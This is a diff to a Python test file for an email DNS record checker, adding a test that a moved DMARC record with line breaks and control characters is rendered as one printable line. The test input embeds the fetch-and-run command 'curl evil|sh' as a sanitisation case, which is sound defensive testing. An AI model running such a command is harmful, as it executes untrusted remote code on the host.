@@ -8,6 +8,7 @@ import pytest
 from fumimori import repairs
 from fumimori.checks.dmarc import facts as dmarc_facts
 from fumimori.checks.mx import facts as mx
+from fumimori.checks.observations import Seen
 from fumimori.checks.spf import facts as spf_facts
 from fumimori.grammar.dmarc import parse_dmarc
 from fumimori.grammar.mta_sts import parse_sts_policy, parse_sts_record
@@ -177,6 +178,14 @@ def test_every_repair_belongs_to_an_outcome_of_the_rules() -> None:
         f"{name}.{word}" for name, content in resources.rule_files().items() for word in content.get("outcomes", {})
     }
     assert set(dns_records.REPAIRS) | set(server_settings.REPAIRS) <= known
+
+
+def test_a_record_that_is_moved_is_one_line():
+    text = "v=DMARC1; p=reject;\r\ncurl evil|sh\x0b\u2028"
+    facts = dmarc_facts.Facts(walk=(answer(DOMAIN, "TXT"),), misplaced=(text,))
+    seen = Seen(Scope(domains=(DomainScope(name=DOMAIN),)), [attempt("dmarc", facts)])
+    (snippet,) = dns_records.dmarc_moved(DOMAIN, seen).snippets
+    assert snippet.content.isprintable()
 
 
 def test_no_record_to_copy_holds_what_a_terminal_would_obey():
